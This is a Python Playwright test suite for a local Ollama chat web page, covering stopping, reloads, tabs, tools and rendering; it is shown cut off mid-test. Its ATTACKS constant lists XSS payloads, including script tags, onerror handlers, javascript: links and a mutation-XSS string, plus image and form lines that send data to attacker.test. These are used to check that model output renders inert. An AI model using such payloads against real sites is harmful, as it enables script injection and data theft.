"""The chat page in a real Chromium: what a user does there, and what the model's server saw of it.

No test here has an event loop: see `real.chromium`.
"""

import json
import re
import signal
import socket
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("starlette")
pytest.importorskip("uvicorn")

import httpx
from axe_playwright_python.sync_playwright import Axe
from durable.harness import telling, words
from playwright.sync_api import Browser, BrowserContext, Page, expect
from real.chromium import BOUND
from real.ollama_server import RealOllama
from real.proxies import UPSTREAM, Nginx, without
from real.web_page import WebPage, web_page

from ollama_async.cli._web import PORT
from ollama_async.testing import ConnectionRecord, Cut, FakeOllama, Gate, Reply, Stall

pytestmark = pytest.mark.browser

ENDLESS = Reply.endless_chat(0.01)
BEGINNING = "This answer comes from a fake Ollama server"


@pytest.fixture(scope="module")
def _ollama() -> Iterator[FakeOllama]:
    with FakeOllama(models=["fake", "other"]) as server:
        yield server


@pytest.fixture
def ollama(_ollama: FakeOllama) -> FakeOllama:
    """The server behind the page, with nothing of the test before in its records."""
    _ollama.stop()
    _ollama.forget()
    return _ollama.start()


@pytest.fixture(scope="module")
def served(_ollama: FakeOllama) -> Iterator[WebPage]:
    with web_page(_ollama.url) as page:
        yield page


@pytest.fixture(scope="module")
def served_briefly(_ollama: FakeOllama) -> Iterator[WebPage]:
    """A page whose answers end soon when no tab shows them."""
    with web_page(_ollama.url, "--unattended", "0.3") as page:
        yield page


@pytest.fixture
def tab(context: BrowserContext, served: WebPage, ollama: FakeOllama) -> "Tab":
    return Tab(context.new_page(), served.url)


@pytest.fixture
def brief_tab(context: BrowserContext, served_briefly: WebPage, ollama: FakeOllama) -> "Tab":
    return Tab(context.new_page(), served_briefly.url)


class Tab:
    """The chat page in a tab, by what a user finds there."""

    def __init__(self, page: Page, url: str, begins: str = "Ready") -> None:
        self.page = page
        # The browser's clock is this machine's, but a click by its driver takes a while.
        page.add_init_script("""
            const note = () => (window.stoppedAt = Date.now() / 1000);
            addEventListener("click", ({ target }) => target.textContent === "Stop" && note(), true);
            addEventListener("keydown", ({ key }) => key === "Escape" && note(), true);
        """)
        page.goto(url)
        self.prompt = page.get_by_role("textbox", name="Your message")
        self.status = page.get_by_role("status")
        self.meter = page.locator("#meter")
        self.stop = page.get_by_role("button", name="Stop")
        self.answers = page.locator(".written")
        self.articles = page.get_by_role("article")
        expect(self.status).to_have_text(begins)

    def ask(self, text: str = "Tell me a story.") -> None:
        self.prompt.fill(text)
        self.prompt.press("Enter")

    def ask_until(self, came: str) -> None:
        """Ask, and wait until that has come of the answer."""
        self.ask()
        expect(self.answers.last).to_contain_text(came)

    def stopped_at(self) -> float:
        """When the user stopped the answer, by `time.monotonic()`."""
        at: float = self.page.evaluate("window.stoppedAt")
        return at - time.time() + time.monotonic()

    def count(self) -> int:
        """How many tokens the page says have come."""
        expect(self.meter).to_have_text(re.compile("token"))
        return int(self.meter.inner_text().partition(" ")[0])


# -- on a phone --


@pytest.mark.parametrize("width", [320, 360, 390, 480, 481, 820])
@pytest.mark.parametrize("model", ["m", "a-model-with-a-name-that-is-longer-than-a-phone-is-wide:30b-instruct-q4_K_M"])
def test_all_of_the_header_is_seen(browser: Browser, width: int, model: str) -> None:
    with FakeOllama(models=[model]) as server, web_page(server.url) as page:
        context = browser.new_context(viewport={"width": width, "height": 720})
        try:
            tab = Tab(context.new_page(), page.url)
            for part in (tab.page.get_by_label("Model"), tab.page.get_by_role("button", name="New chat")):
                box = part.bounding_box()
                assert box is not None
                assert box["x"] >= 0
                assert box["x"] + box["width"] <= width
                assert box["width"] >= 60
            assert tab.page.evaluate("document.documentElement.scrollWidth") <= width
            assert tab.page.get_by_role("heading", level=1).inner_text() == "ollama-async"
        finally:
            context.close()


# -- behind a proxy --


DOCS = Path(__file__).parents[2] / "docs" / "web.md"


@pytest.mark.parametrize("passes_name", [True, False])
def test_the_page_behind_the_nginx_of_the_docs(
    context: BrowserContext, ollama: FakeOllama, tmp_path: Path, passes_name: bool
) -> None:
    [config] = re.findall(r"^```nginx\n(.*?)^```$", DOCS.read_text("utf-8"), re.MULTILINE | re.DOTALL)
    config = config.replace(f"127.0.0.1:{PORT}", UPSTREAM)
    if not passes_name:
        config = without(config, "proxy_set_header Host")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    with Nginx(tmp_path, config, port) as proxy:
        # A name that leads here; chat.example.com does not.
        site = proxy.url.replace("127.0.0.1", "site.localhost")
        with web_page(ollama.url, "--allow-host", site, "--unattended", "0.3", port=port):
            ollama.script("/api/chat", Reply.chat("Good"), ENDLESS)
            tab = Tab(context.new_page(), site)
            tab.ask()
            expect(tab.status).to_have_text(re.compile("^Done"))
            tab.ask_until("No model was asked")
            tab.page.close()
            assert connection_of(ollama, 2).wait_left(BOUND)


def connection_of(ollama: FakeOllama, number: int = 1) -> ConnectionRecord:
    """The connection of the n-th chat."""
    return ollama.wait_for_requests(number, path="/api/chat", timeout=BOUND)[number - 1].connection


def messages(ollama: FakeOllama, number: int) -> list[tuple[str, str]]:
    request = ollama.wait_for_requests(number, path="/api/chat", timeout=BOUND)[number - 1]
    return [(message["role"], message["content"]) for message in request.json()["messages"]]


def saw_stop(tab: Tab, connection: ConnectionRecord, how: str) -> None:
    """Wait until the server has seen the client leave, and tell how long that took."""
    assert connection.wait_left(BOUND)
    assert connection.left_at is not None
    seconds = connection.left_at - tab.stopped_at()
    print(f"\n{how}: the server saw the client leave {seconds * 1000:.0f} ms after the user's event in the browser")
    assert seconds < BOUND


# -- stopping --


def test_stop_in_mid_answer(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS)
    tab.ask_until(BEGINNING)
    expect(tab.status).to_have_text("Answering")
    tab.stop.click()
    saw_stop(tab, connection_of(ollama), "Stop")
    expect(tab.status).to_have_text(re.compile(r"^Stopped by you after \d+ tokens in \d+\.\d s$"))
    expect(tab.answers.last).to_contain_text(BEGINNING)
    expect(tab.stop).to_be_hidden()
    expect(tab.prompt).to_be_focused()


def test_escape_stops(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS)
    tab.ask_until(BEGINNING)
    tab.page.keyboard.press("Escape")
    saw_stop(tab, connection_of(ollama), "Esc")
    expect(tab.status).to_have_text(re.compile("^Stopped by you after"))


def test_stop_while_the_model_loads(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply(before_head=[Stall()]))
    tab.ask()
    expect(tab.status).to_have_text("Waiting for fake:latest, which may be loading")
    connection = connection_of(ollama)
    assert connection.open
    tab.stop.click()
    saw_stop(tab, connection, "Stop before the headers")
    expect(tab.status).to_have_text(re.compile(r"^Stopped by you after \d+\.\d s, before the first token$"))


def test_the_stop_route_alone_reaches_the_model(tab: Tab, ollama: FakeOllama) -> None:
    """Also where something between page and server keeps the connection open."""
    ollama.script("/api/chat", ENDLESS)
    tab.page.evaluate("AbortController.prototype.abort = () => {}")
    tab.ask_until(BEGINNING)
    tab.stop.click()
    saw_stop(tab, connection_of(ollama), "Stop by its route alone")


def test_a_closed_connection_alone_reaches_the_model(brief_tab: Tab, ollama: FakeOllama) -> None:
    """No Stop gets through: nobody watches the answer any more."""
    ollama.script("/api/chat", ENDLESS)
    brief_tab.page.route(
        "**/api/answers/*", lambda route: route.abort() if route.request.method == "POST" else route.continue_()
    )
    brief_tab.ask_until(BEGINNING)
    brief_tab.stop.click()
    saw_stop(brief_tab, connection_of(ollama), "Stop by the closed connection alone")


def test_a_closed_tab_stops_the_answer_that_no_other_shows(
    brief_tab: Tab, context: BrowserContext, served_briefly: WebPage, ollama: FakeOllama
) -> None:
    gate = Gate()
    reply = Reply([*telling(3).steps[:3], gate, *ENDLESS.steps])
    ollama.script("/api/chat", reply)
    brief_tab.ask_until("2 \u00fc")
    other = Tab(context.new_page(), served_briefly.url, "Answering")
    brief_tab.page.close()
    gate.open()
    expect(other.answers.last).to_contain_text(BEGINNING)
    assert connection_of(ollama).open
    closed_at = time.monotonic()
    other.page.close()
    connection = connection_of(ollama)
    assert connection.wait_left(BOUND)
    assert connection.left_at is not None
    assert connection.left_at - closed_at >= 0.25


def test_a_tab_closed_while_the_model_loads(brief_tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply(before_head=[Stall()]))
    brief_tab.ask()
    connection = connection_of(ollama)
    brief_tab.page.close()
    assert connection.wait_left(BOUND)


def test_two_tabs_at_once(tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS, ENDLESS)
    other = Tab(context.new_page(), served.url)
    tab.ask_until(BEGINNING)
    other.ask_until(BEGINNING)
    tab.page.bring_to_front()
    tab.stop.click()
    saw_stop(tab, connection_of(ollama, 1), "Stop in one of two tabs")
    other.page.bring_to_front()
    before = other.count()
    expect(other.meter).not_to_have_text(re.compile(rf"^{before} token"))
    assert other.count() > before
    expect(other.status).to_have_text("Answering")
    assert connection_of(ollama, 2).open
    other.stop.click()
    saw_stop(other, connection_of(ollama, 2), "Stop in the other one")


def test_stop_on_a_slow_network(tab: Tab, context: BrowserContext, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply.endless_chat(0))
    slow = {"offline": False, "latency": 300, "downloadThroughput": 4000, "uploadThroughput": 4000}
    context.new_cdp_session(tab.page).send("Network.emulateNetworkConditions", slow)
    tab.ask_until(BEGINNING)
    tab.stop.click()
    saw_stop(tab, connection_of(ollama), "Stop at 4 kB/s with 300 ms of latency")
    expect(tab.status).to_have_text(re.compile("^Stopped by you after"))


# -- an answer that outlives its page --


def conversation(tab: Tab) -> list[dict[str, Any]]:
    """What the page keeps of what was said."""
    tab.page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide'))")
    kept: list[dict[str, Any]] = tab.page.evaluate("JSON.parse(sessionStorage.getItem('conversation')).turns")
    return kept


def halves(count: int, gate: Gate) -> tuple[Reply, str]:
    """An answer that waits for the gate in its middle, and its text."""
    steps = telling(count).steps
    return Reply([*steps[: count // 2], gate, *steps[count // 2 :]]), "".join(words(count))


@pytest.mark.parametrize("when", ["loading", "answering"])
def test_a_reload_goes_on_where_the_page_was(tab: Tab, ollama: FakeOllama, when: str) -> None:
    gate = Gate()
    reply, text = halves(20, gate)
    if when == "loading":
        reply = Reply(telling(20).steps, before_head=[gate])
    ollama.script("/api/chat", reply, Reply.chat("Fine."))
    tab.ask()
    if when == "answering":
        expect(tab.answers.last).to_contain_text("9 \u00fc")
    connection = connection_of(ollama)
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url.partition("/api/")[2]))
    tab.page.reload()
    expect(tab.status).to_have_text("Answering" if when == "answering" else re.compile("^Waiting for fake:latest"))
    assert connection.open
    gate.open()
    expect(tab.status).to_have_text(re.compile("^Done: 20 tokens in"))
    [turn, answer] = conversation(tab)
    assert (turn["content"], answer["content"]) == ("Tell me a story.", text)
    after = [url.partition("?after=")[2] for url in asked if url.startswith("answers/")]
    assert after == ["11" if when == "answering" else "0"]
    tab.ask("And then?")
    expect(tab.answers.last).to_have_text("Fine.")
    assert messages(ollama, 2) == [("user", "Tell me a story."), ("assistant", text), ("user", "And then?")]


@pytest.mark.parametrize("stopped_in", ["first", "second"])
def test_another_tab_shows_the_same_answer_and_stop_in_either_ends_both(
    tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama, stopped_in: str
) -> None:
    gate, rest = Gate(), Gate()
    reply, text = halves(20, gate)
    ollama.script("/api/chat", Reply.chat("Fine."), Reply([*reply.steps[:-1], rest]))
    tab.ask("Are you well?")
    expect(tab.answers.last).to_have_text("Fine.")
    tab.ask_until("9 \u00fc")
    other = Tab(context.new_page(), served.url, "Answering")
    expect(other.articles).to_have_count(4)
    gate.open()
    for each in (tab, other):
        expect(each.answers.last).to_contain_text("19 \u00fc")
        turns = conversation(each)
        assert [turn["content"] for turn in turns] == ["Are you well?", "Fine.", "Tell me a story.", text]
    asked: list[str] = []
    stopping, watching = (tab, other) if stopped_in == "first" else (other, tab)
    for each in (tab, other):
        each.page.on("request", lambda request: asked.append(request.method))
    stopping.page.bring_to_front()
    stopping.stop.click()
    saw_stop(stopping, connection_of(ollama, 2), "Stop in a second tab")
    expect(stopping.status).to_have_text(re.compile("^Stopped by you after 20 tokens"))
    expect(watching.status).to_have_text(re.compile("^Stopped after 20 tokens in .*: the user pressed Stop$"))
    for each in (tab, other):
        expect(each.page.get_by_role("button", name="Continue")).to_be_visible()
        assert conversation(each)[-1]["content"] == text
    assert asked == ["POST"]


def test_a_tab_that_shows_the_answer_of_another_can_begin_a_new_chat(
    tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama
) -> None:
    ollama.script("/api/chat", ENDLESS, Reply.chat("Fine."))
    tab.ask_until(BEGINNING)
    other = Tab(context.new_page(), served.url, "Answering")
    other.page.get_by_role("button", name="New chat").click()
    expect(other.articles).to_have_count(0)
    other.ask("Are you well?")
    expect(other.answers.last).to_have_text("Fine.")
    assert messages(ollama, 2) == [("user", "Are you well?")]
    assert connection_of(ollama).open
    tab.page.bring_to_front()
    expect(tab.page.get_by_role("button", name="New chat")).to_be_disabled()
    tab.stop.click()
    assert connection_of(ollama).wait_left(BOUND)


def test_another_browser_does_not_see_it(tab: Tab, browser: Browser, served: WebPage, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS)
    tab.ask_until(BEGINNING)
    context = browser.new_context()
    try:
        stranger = Tab(context.new_page(), served.url)
        expect(stranger.articles).to_have_count(0)
    finally:
        context.close()
    tab.stop.click()
    assert connection_of(ollama).wait_left(BOUND)


def states(tab: Tab, served: WebPage) -> list[str]:
    """In which states the server has this browser's answers."""
    owner = {"X-Chat-Owner": tab.page.evaluate("localStorage.getItem('owner')")}
    response = httpx.get(f"{served.url}api/answers", headers=owner, trust_env=False)
    return [listed["state"] for listed in response.json()]


def test_offline_and_back(tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama) -> None:
    gate = Gate()
    reply, text = halves(20, gate)
    ollama.script("/api/chat", reply)
    tab.ask_until("9 \u00fc")
    context.set_offline(True)
    expect(tab.status).to_have_text(re.compile("^Offline after 10 tokens in .*; the answer goes on for some time$"))
    gate.open()
    deadline = time.monotonic() + BOUND
    while states(tab, served) != ["ended"]:  # meanwhile the answer comes to its end
        assert time.monotonic() < deadline
    context.set_offline(False)
    expect(tab.status).to_have_text(re.compile("^Done: 20 tokens in"))
    assert conversation(tab)[-1]["content"] == text
    assert len([request for request in ollama.requests if request.route == "/api/chat"]) == 1


def test_an_answer_whose_server_is_killed_is_lost_and_can_be_continued(
    context: BrowserContext, ollama: FakeOllama
) -> None:
    ollama.script("/api/chat", Reply([*Reply.chat("Once upon", done=False).steps, Stall()]), Reply.chat(" a time."))
    with web_page(ollama.url) as served:
        port = httpx.URL(served.url).port
        tab = Tab(context.new_page(), served.url)
        tab.ask_until("Once upon")
        served.end(signal.SIGKILL)
    assert connection_of(ollama).wait_left(BOUND)
    with web_page(ollama.url, port=port):
        expect(tab.status).to_have_text(re.compile("^Lost after 1 token in .*: the server that produced the answer"))
        tab.page.get_by_role("button", name="Continue").click()
        expect(tab.answers.last).to_have_text("Once upon a time.")
    assert messages(ollama, 2) == [("user", "Tell me a story."), ("assistant", "Once upon")]


def test_an_end_that_says_lost(tab: Tab) -> None:
    """As it comes where the answers are in Redis, and their producer was killed."""
    events = [
        ("open", {"id": "x", "begun": 1}),
        ("chunk", {"message": {"role": "assistant", "content": "Once"}}),
        ("end", {"outcome": "lost", "text": "Once", "reason": None, "error": None}),
    ]
    body = "".join(
        f"id: {number}\nevent: {name}\ndata: {json.dumps(data)}\n\n" for number, (name, data) in enumerate(events, 1)
    )
    tab.page.route("**/api/chat", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Lost after 1 token in"))
    expect(tab.page.get_by_role("button", name="Continue")).to_be_visible()


# -- what else ends an answer --


def test_an_answer_comes_to_its_end(tab: Tab, ollama: FakeOllama) -> None:
    tab.ask()
    expect(tab.status).to_have_text(re.compile(r"^Done: 40 tokens in \d+\.\d s$"))
    expect(tab.answers.last).to_contain_text("until somebody stops it.")
    expect(tab.page.get_by_role("button", name="Continue")).to_have_count(0)
    assert messages(ollama, 1) == [("user", "Tell me a story.")]


def test_the_model_server_goes_in_mid_answer(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply([*Reply.chat("Half", done=False).steps, Cut()]))
    tab.ask_until("Half")
    expect(tab.status).to_have_text(re.compile("^The Ollama server is gone, after 1 token in "))
    expect(tab.page.get_by_role("button", name="Continue")).to_be_visible()


def test_the_model_fails(tab: Tab, ollama: FakeOllama) -> None:
    broken = Reply([*Reply.chat("Half", done=False).steps, {"error": "out of memory"}])
    ollama.script("/api/chat", Reply.error(500, "it crashed"), broken)
    tab.ask()
    expect(tab.status).to_contain_text("it crashed")
    tab.page.get_by_role("button", name="Retry").click()
    expect(tab.answers.last).to_contain_text("Half")
    expect(tab.status).to_contain_text("out of memory")
    assert messages(ollama, 2) == [("user", "Tell me a story.")]


def test_there_is_no_model_server_any_more(context: BrowserContext) -> None:
    with FakeOllama() as ollama, web_page(ollama.url) as served:
        tab = Tab(context.new_page(), served.url)
        ollama.stop()
        tab.ask()
        expect(tab.status).to_contain_text("Failed to connect to Ollama")
        tab.page.reload()
        expect(tab.status).to_contain_text(f"no Ollama server at {ollama.url}")
        ollama.start()
        tab.page.get_by_role("button", name="Look again").click()
        expect(tab.status).to_have_text("Ready")


def test_the_page_server_goes_in_mid_answer(context: BrowserContext, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS)
    with web_page(ollama.url) as served:
        tab = Tab(context.new_page(), served.url)
        tab.ask_until(BEGINNING)
        served.end(signal.SIGKILL)
    expect(tab.status).to_have_text(re.compile("^The page's own server is gone, after"))
    assert connection_of(ollama).wait_left(BOUND)


def test_a_silent_model_times_out(context: BrowserContext, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply([*Reply.chat("Half", done=False).steps, Stall()]))
    with web_page(ollama.url, "--timeout-idle", "0.5") as served:
        tab = Tab(context.new_page(), served.url)
        tab.ask()
        expect(tab.status).to_have_text(re.compile("^Timed out after 1 token in .*idle timeout"))
        assert connection_of(ollama).wait_left(BOUND)


def test_ctrl_c_of_the_page_server_stops_the_answers(context: BrowserContext, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS)
    with web_page(ollama.url) as served:
        tab = Tab(context.new_page(), served.url)
        tab.ask_until(BEGINNING)
        assert served.end() == (130, "")
    assert connection_of(ollama).wait_left(BOUND)
    expect(tab.status).to_have_text(re.compile("^Stopped after .*: ollama-async web is ending$"))


# -- going on --


def test_continue_goes_on_where_the_answer_was_stopped(tab: Tab, ollama: FakeOllama) -> None:
    half = Gate()
    ollama.script("/api/chat", Reply([*Reply.chat("Once **upon", done=False).steps, half]), Reply.chat(" a** time."))
    tab.ask_until("Once")
    tab.stop.click()
    tab.page.get_by_role("button", name="Continue").click()
    expect(tab.answers.last).to_have_text("Once upon a time.")
    expect(tab.answers.last.locator("strong")).to_have_text("upon a")
    assert messages(ollama, 2) == [("user", "Tell me a story."), ("assistant", "Once **upon")]


def test_retry_asks_again_with_the_model_that_is_chosen(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", ENDLESS, Reply.chat("Better."))
    tab.ask_until(BEGINNING)
    tab.stop.click()
    tab.page.get_by_role("combobox", name="Model").select_option("other:latest")
    tab.page.get_by_role("button", name="Retry").click()
    expect(tab.answers).to_have_text(["Better."])
    assert messages(ollama, 2) == [("user", "Tell me a story.")]
    assert [request.json()["model"] for request in ollama.requests if request.route == "/api/chat"] == [
        "fake:latest",
        "other:latest",
    ]


def test_a_question_that_got_no_answer_is_not_told_again(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply.error(500, "it crashed"), Reply.chat("Fine."))
    tab.ask("lost")
    expect(tab.status).to_contain_text("it crashed")
    tab.ask("found")
    expect(tab.answers.last).to_have_text("Fine.")
    assert messages(ollama, 2) == [("user", "found")]


def test_a_new_chat_begins_with_nothing(tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", Reply.chat("One."), Reply.chat("Two."))
    tab.ask_until("One.")
    expect(tab.status).to_have_text(re.compile("^Done"))
    tab.page.get_by_role("button", name="New chat").click()
    expect(tab.page.get_by_role("article")).to_have_count(0)
    tab.ask_until("Two.")
    assert messages(ollama, 2) == [("user", "Tell me a story.")]


# -- tools, and the context --

TOOLS = """
import asyncio, pathlib

def weather(city: str) -> dict[str, object]:
    return {"city": city, "sky": "<b>blue</b>", "long": "word" * 200}

async def hang() -> str:
    try:
        await asyncio.Event().wait()
    finally:
        pathlib.Path("stopped").touch()
"""
TOO_LONG = Reply.error(400, "the input length exceeds the context length")


def calling(*names: str, **arguments: str) -> Reply:
    calls = [{"id": str(n), "function": {"name": name, "arguments": arguments}} for n, name in enumerate(names)]
    return Reply.chat("I look.", tool_calls=calls)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder in which the tools are, and leave a file when they are stopped."""
    folder = tmp_path_factory.mktemp("tools")
    (folder / "pagetools.py").write_text(TOOLS)
    return folder


@pytest.fixture(scope="module")
def served_tools(_ollama: FakeOllama, folder: Path) -> Iterator[WebPage]:
    names = ("--tools", "pagetools:weather", "--tools", "pagetools:hang")
    with web_page(_ollama.url, *names, cwd=folder) as page:
        yield page


@pytest.fixture
def tools_tab(context: BrowserContext, served_tools: WebPage, ollama: FakeOllama, folder: Path) -> "Tab":
    (folder / "stopped").unlink(missing_ok=True)
    return Tab(context.new_page(), served_tools.url)


def chats_of(ollama: FakeOllama) -> list[Any]:
    return [request for request in ollama.requests if request.route == "/api/chat"]


def wait_for(file: Path) -> None:
    end = time.monotonic() + BOUND
    while not file.exists():
        assert time.monotonic() < end
        time.sleep(0.01)


def shows_calls(tab: Tab, *expected: str) -> None:
    expect(tab.page.locator(".call summary")).to_have_text([re.compile(f"^{text}$") for text in expected])


def test_stop_ends_a_running_tool(
    tools_tab: Tab, context: BrowserContext, served_tools: WebPage, ollama: FakeOllama, folder: Path
) -> None:
    ollama.script("/api/chat", calling("weather", "hang", city="Lima"), calling("hang"), Reply.chat("Again."))
    tools_tab.ask("Weather?")
    expect(tools_tab.status).to_have_text("Waiting for the tool: hang")
    shown = ("weather done", "hang failed", "hang is running")
    shows_calls(tools_tab, *shown)
    call = tools_tab.page.locator(".call").first
    call.locator("summary").click()
    expect(call.locator("pre").first).to_have_text(re.compile(r'"city": "Lima"'))
    expect(call.locator("pre").last).to_contain_text("<b>blue</b>")
    # A reload, and another tab, show the same.
    tools_tab.page.reload()
    other = Tab(context.new_page(), served_tools.url, begins="Waiting for the tool: hang")
    for each in (tools_tab, other):
        expect(each.status).to_have_text("Waiting for the tool: hang")
        shows_calls(each, *shown)
        expect(each.answers.first).to_have_text("I look.")
    assert not (folder / "stopped").exists()
    other.stop.click()
    wait_for(folder / "stopped")
    expect(other.status).to_have_text(re.compile("^Stopped by you after"))
    expect(tools_tab.status).to_have_text(re.compile("^Stopped after .*: the user pressed Stop$"))
    for each in (tools_tab, other):
        shows_calls(each, "weather done", "hang failed", "hang stopped")
    # The model was not asked again.
    assert len(chats_of(ollama)) == 2
    # The conversation goes on, and has the calls.
    tools_tab.ask("And now?")
    expect(tools_tab.answers.last).to_have_text("Again.")
    told = chats_of(ollama)[2].json()["messages"]
    roles = ["user", "assistant", "tool", "tool", "assistant", "tool", "user"]
    assert [message["role"] for message in told] == roles
    assert told[1]["tool_calls"][0]["function"] == {"name": "weather", "arguments": {"city": "Lima"}}
    assert told[2]["tool_name"] == "weather"
    assert told[5]["content"].startswith("aborted: ")


def test_stop_ends_the_model_behind_a_tool(tools_tab: Tab, ollama: FakeOllama) -> None:
    ollama.script("/api/chat", calling("weather", city="Lima"), ENDLESS)
    tools_tab.ask_until(BEGINNING)
    expect(tools_tab.status).to_have_text("Answering")
    tools_tab.page.keyboard.press("Escape")
    assert chats_of(ollama)[1].connection.wait_left(BOUND)
    expect(tools_tab.status).to_have_text(re.compile("^Stopped by you after"))
    shows_calls(tools_tab, "weather done")
    tools_tab.page.reload()
    shows_calls(tools_tab, "weather done")
    expect(tools_tab.answers.last).to_contain_text(BEGINNING)


def load(ollama: FakeOllama) -> None:
    """Have the server say how much context the model has."""
    httpx.post(f"{ollama.url}/api/generate", json={"model": "fake"}, trust_env=False).raise_for_status()


def test_the_context_is_shown_and_a_cut_is_told(context: BrowserContext, ollama: FakeOllama) -> None:
    load(ollama)
    with web_page(ollama.url) as page:
        tab = Tab(context.new_page(), page.url)
        used = tab.page.locator(".context").last
        ollama.script("/api/chat", Reply.chat("So", "."), TOO_LONG, Reply.chat("So", "."), ENDLESS)
        tab.ask()
        expect(used).to_have_text(re.compile(r"^Context: \d+ of 4,096 tokens, \d %$"), use_inner_text=True)
        meter = used.get_by_role("meter", name="Context used")
        assert meter.evaluate("({ max, value }) => [max, value > 0]") == [4096, True]
        tab.ask()
        expect(tab.status).to_have_text(re.compile("^Done: .* The conversation is longer than the model's context"))
        expect(used.get_by_text("Begin a new chat.")).to_be_visible()
        tab.page.reload()
        expect(tab.page.locator(".context strong:visible")).to_have_count(1)
        expect(tab.status).to_have_text("Ready")
        tab.ask_until(BEGINNING)
        expect(used).to_be_hidden()
        tab.stop.click()
        expect(used).to_be_hidden()


@pytest.mark.parametrize("width", [390, 768, 1400])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_calls_and_context_are_accessible(tools_tab: Tab, ollama: FakeOllama, width: int, scheme: Any) -> None:
    page = tools_tab.page
    page.set_viewport_size({"width": width, "height": 720})
    page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    load(ollama)
    asked = calling("weather", city="Lima" * 100)
    ollama.script("/api/chat", TOO_LONG, asked, TOO_LONG, Reply.chat("It is", " blue."), calling("hang"))
    axe = Axe()

    def check() -> None:
        results = axe.run(page)
        assert results.violations_count == 0, results.generate_report()
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        main = "document.querySelector('main')"
        assert page.evaluate(f"{main}.scrollWidth <= {main}.clientWidth")

    tools_tab.ask()
    expect(tools_tab.status).to_have_text(re.compile("^Done"))
    expect(page.locator(".context strong")).to_be_visible()
    check()
    # By the keyboard: from the prompt back over the buttons of the answer.
    for _ in range(3):
        page.keyboard.press("Shift+Tab")
    expect(page.locator(".call summary")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(".call pre").last).to_be_visible()
    check()
    tools_tab.ask()
    expect(tools_tab.status).to_have_text("Waiting for the tool: hang")
    check()
    page.keyboard.press("Escape")
    expect(tools_tab.status).to_have_text(re.compile("^Stopped"))
    check()


# -- what is shown --

MARKDOWN = """\
## Colours

Blue is **short**, and `red` is long.[^1]

- [x] seen
- [ ] unseen

```html
<b>not bold</b>
```

| a | b |
|---|---|
| 1 | 2 |

See [there][1].

[1]: https://example.org/
"""


def test_markdown_and_thoughts(tab: Tab, ollama: FakeOllama) -> None:
    words = [MARKDOWN[at : at + 3] for at in range(0, len(MARKDOWN), 3)]
    thinking = Gate()
    reply = Reply.chat(*words, thinking=["Let me ", "think."])
    ollama.script("/api/chat", Reply([*reply.steps[:2], thinking, *reply.steps[2:]]))
    tab.ask()
    thoughts = tab.page.locator("details")
    expect(thoughts).to_have_attribute("open", "")
    expect(thoughts).to_contain_text("Let me think.")
    thinking.open()
    expect(tab.status).to_have_text(re.compile("^Done"))
    expect(thoughts).not_to_have_attribute("open", "")
    written = tab.answers.last
    expect(written.get_by_role("heading", name="Colours")).to_be_visible()
    expect(written.locator("strong")).to_have_text("short")
    expect(written.locator("pre code")).to_have_text("<b>not bold</b>\n")
    expect(written.get_by_role("cell", name="2")).to_be_visible()
    expect(written.get_by_role("listitem").first).to_have_text("\u2611 seen")
    link = written.get_by_role("link", name="there")
    expect(link).to_have_attribute("href", "https://example.org/")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


ATTACKS = """\
<script>window.attacked = 1</script>

<img src="x" onerror="window.attacked = 2">

inline <img src=x onerror="window.attacked = 3"> and <svg onload="window.attacked = 4"></svg>

[one](javascript:window.attacked=5) [two](data:text/html,<script>window.attacked=6</script>)

![picture](https://attacker.test/?secret) ![" onerror="window.attacked=7](x)

<iframe src="javascript:parent.attacked = 8"></iframe>

<form action="https://attacker.test/"><input name="x"><button id="stop">Send</button></form>

<style>body { display: none }</style> <a href="x" style="position:fixed;inset:0" onclick="window.attacked=9">all</a>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=10&gt;">

```"><img src=x onerror="window.attacked=11">
code
```
"""


def test_what_a_model_writes_does_nothing_but_show(tab: Tab, ollama: FakeOllama) -> None:
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    words = [ATTACKS[at : at + 7] for at in range(0, len(ATTACKS), 7)]
    ollama.script("/api/chat", Reply.chat(*words, thinking=["<img src=x onerror='window.attacked = 12'>"]))
    tab.ask()
    expect(tab.status).to_have_text(re.compile("^Done"))
    written = tab.answers.last
    expect(written).to_contain_text("<script>window.attacked = 1</script>")
    elements = written.evaluate("root => [...root.querySelectorAll('*')].map(e => e.tagName).sort()")
    assert set(elements) <= {"A", "BR", "CODE", "DIV", "P", "PRE"}
    attributes = written.evaluate("root => [...root.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
    assert set(attributes) <= {"href", "title", "target", "rel"}
    links = written.evaluate("root => [...root.querySelectorAll('a')].map(a => a.getAttribute('href'))")
